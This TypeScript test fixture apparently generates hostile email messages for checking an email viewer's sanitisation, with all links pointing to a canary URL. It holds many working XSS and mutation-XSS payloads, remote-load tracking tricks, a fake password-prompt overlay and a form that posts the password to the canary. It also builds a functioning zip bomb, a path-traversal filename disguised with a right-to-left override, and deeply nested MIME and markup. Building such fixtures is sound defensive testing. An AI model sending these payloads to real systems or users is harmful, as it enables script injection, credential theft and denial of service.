/** Letters of somebody who wants to run, ask, cover or break something. Wherever they point to, a canary listens. */
import { deflateRawSync } from 'node:zlib'

/** What a letter of the collection is called in its subject, and its bytes. */
export interface HostileLetter {
  readonly name: string
  readonly raw: string
}

const RUN = "console.log('CANARY');window.__hacked=1;alert(1)"

/** Ways to run a script from text that is taken for markup. */
export const scriptsFor = (canary: string): readonly string[] => [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg onload="${RUN}">`,
  `'"--></title></textarea></style><script src=${canary}/s.js></script>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.__hacked=1;alert(1)</script>"></iframe>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<a href="javascript:${RUN}">script link</a>`,
  `<a href="java&#x0A;script:${RUN}">split link</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">data link</a>`,
  `<a href="vbscript:msgbox(1)">basic link</a>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">`,
  `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  `<body onload="${RUN}" onpageshow="${RUN}">`,
  `<template><img src=x onerror="${RUN}"></template><xmp><img src=x onerror="${RUN}"></xmp>`,
  `<div style="width:expression(${RUN});behavior:url(${canary}/b.htc)">expression</div>`,
  `<marquee onstart="${RUN}">x</marquee><isindex action=javascript:alert(1) type=image>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `\${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>`,
  `<img id=body name=getElementById><form id=__proto__><input name=attributes></form><a id=location href=x>clobber</a>`,
]

/** Ways to ask somebody for something as soon as it is looked at. */
const asksFor = (canary: string): string => `
<base href="${canary}/base/"><meta http-equiv="refresh" content="0;url=${canary}/refresh">
<link rel="stylesheet" href="${canary}/l.css"><link rel="preload" as="image" href="${canary}/p.png"><link rel="dns-prefetch" href="${canary}">
<style>@import "${canary}/i.css"; @import url(${canary}/j.css); @font-face{font-family:f;src:url(${canary}/f.woff2)} body{background:url(${canary}/bg.png);font-family:f} a:hover{content:url(${canary}/h.png)}</style>
<img src="${canary}/pixel.png" width="40" height="40" alt="remote picture"><img srcset="${canary}/set.png 1x" alt="set"><picture><source srcset="${canary}/source.png"><img alt="picture"></picture>
<table background="${canary}/table.png"><tr><td background="${canary}/td.png">cell</td></tr></table>
<div style="background-image:url(${canary}/div.png)">a</div><div style="background:u\\72l(${canary}/escape.png)">b</div>
<div style="background-image:image-set('${canary}/imageset.png' 1x)">c</div><div style="list-style-image:url('${canary}/list.png');cursor:url(${canary}/cur.png),auto">d</div>
<div style="--x:url(${canary}/var.png);background:var(--x)">e</div><div style="content:url(${canary}/content.png);mask:url(${canary}/mask.svg#m);filter:url(${canary}/filter.svg#f)">f</div>
<div style="background:/**/url(/**/'${canary}/comment.png')">g</div><div style="border-image:url(&quot;${canary}/border.png&quot;) 1">h</div>
<svg><image href="${canary}/svg.png"/><use href="${canary}/use.svg#u"/><foreignObject><img src="${canary}/foreign.png"></foreignObject></svg>
<video poster="${canary}/poster.png" src="${canary}/v.mp4" autoplay></video><audio src="${canary}/a.mp3" autoplay></audio><track src="${canary}/t.vtt">
<iframe src="${canary}/frame"></iframe><object data="${canary}/object"></object><embed src="${canary}/embed"><applet code="${canary}/applet"></applet>
<form action="${canary}/form" method="post"><input name="password" type="password" value="x"><button formaction="${canary}/button">Sign in again</button><input type="image" src="${canary}/input.png"></form>
<a href="${canary}/ping" ping="${canary}/pinged">a plain link</a><a href="//127.0.0.1/x">schemeless link</a><a href="relative/path">relative link</a><a href="mailto:a@b.test">mail link</a><a href="cid:none">cid link</a><img src="cid:none" alt="none"><img src="file:///etc/passwd" alt="file"><img src="//127.0.0.1/p.png" alt="schemeless"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>" alt="data">`

/** Ways to lie over what is not theirs. */
const OVERLAYS = `
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">Your session has ended <input type="password"></div>
<div style="position:absolute;top:-5000px;left:-5000px;width:9000px;height:9000px;z-index:9">absolute</div>
<div style="margin:-900px -900px 0;padding:900px">negative margin</div>
<div style="transform:translate(-600px,-600px) scale(40)">transform</div>
<div style="pos\\69tion:fi\\78 ed;inset:0">escaped position</div>
<div style="width:200000px;height:900000px">huge box</div>
<div style="letter-spacing:-400px;text-indent:-9000px;line-height:0">pulled text</div>
<div style="display:none">hidden text</div>
<p class="mantine-Modal-root" id="main" style="animation:x 1s;transition:all 9s">our classes</p>`

/** A collection of letters, all of them pointing to the canary. */
export function hostileLetters(canary: string): readonly HostileLetter[] {
  const scripts = scriptsFor(canary)
  const page = (html: string): string => `<html><body><p>Dear sir,</p>${html}<p>the end</p></body></html>`
  const everywhere = scripts.map((script, at) =>
    letter(`X${at} ${script}`, page(script), { from: script, file: `${at}-${script}`, header: script }),
  )
  return [
    ...everywhere,
    letter('all scripts', page(scripts.join('\n'))),
    letter('asks', page(asksFor(canary))),
    letter('overlays', page(OVERLAYS)),
    letter(
      'unclosed',
      `<p>Dear sir,</p><div><b><a href="${canary}/"><table><tr><td style="${'x'.repeat(9_000)}<p>the end`,
    ),
    letter('deep', page(`${'<div><b><blockquote>'.repeat(3_000)}deep`)),
    letter('references', page('many references'), {
      more: `References: ${Array.from({ length: 100_000 }, (_, at) => `<r${at}@far.test>`).join('\r\n ')}\r\n`,
    }),
    { name: 'parts', raw: `${head('parts', 'Parts')}${nested(900)}` },
    letter('bomb', page('a zip bomb'), { file: 'bomb.zip', content: zipBomb() }),
    letter('names', page('odd names'), { file: '../../../etc/invoice\u202Efdp.exe' }),
    letter('html file', page('a page as file'), {
      file: 'page.html',
      content: Buffer.from(`<script>${RUN};location='${canary}/file'</script>`),
    }),
  ]
}

const word = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`

let sent = 0
function head(subject: string, from: string, more = ''): string {
  sent += 1
  return `From: ${word(from)} <mallory${sent}@far.test>\r\nTo: support@example.test\r\nSubject: ${word(subject)}\r\nMessage-ID: <h${sent}@far.test>\r\nDate: Mon, 23 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n${more}`
}

interface Parts {
  readonly from?: string
  readonly file?: string
  readonly content?: Buffer
  readonly header?: string
  readonly more?: string
}

function letter(name: string, html: string, parts: Parts = {}): HostileLetter {
  const { from = `Mallory ${name}`, file, content = Buffer.from('x'), header = '', more = '' } = parts
  const encoded = (bytes: Buffer): string => bytes.toString('base64').replace(/.{76}/g, '$&\r\n')
  const attached =
    file === undefined
      ? ''
      : `--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(file).replaceAll("'", '%27')}\r\n\r\n${encoded(content)}\r\n`
  return {
    name,
    raw: `${head(name, from, more)}X-Odd: ${header}\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${encoded(Buffer.from(html))}\r\n${attached}--b--\r\n`,
  }
}

const nested = (depth: number): string =>
  `${Array.from(
    { length: depth },
    (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`,
  ).join('')}Content-Type: text/plain\r\n\r\nvery deep inside\r\n`

/** A ZIP with one file of 256 MiB of zeros in 255 KiB. */
function zipBomb(): Buffer {
  const size = 256 * 2 ** 20
  const data = deflateRawSync(Buffer.alloc(size), { level: 9 })
  const local = Buffer.alloc(31)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(20, 4)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(data.length, 18)
  local.writeUInt32LE(size, 22)
  local.writeUInt16LE(1, 26)
  local.write('a', 30)
  return Buffer.concat([local, data])
}
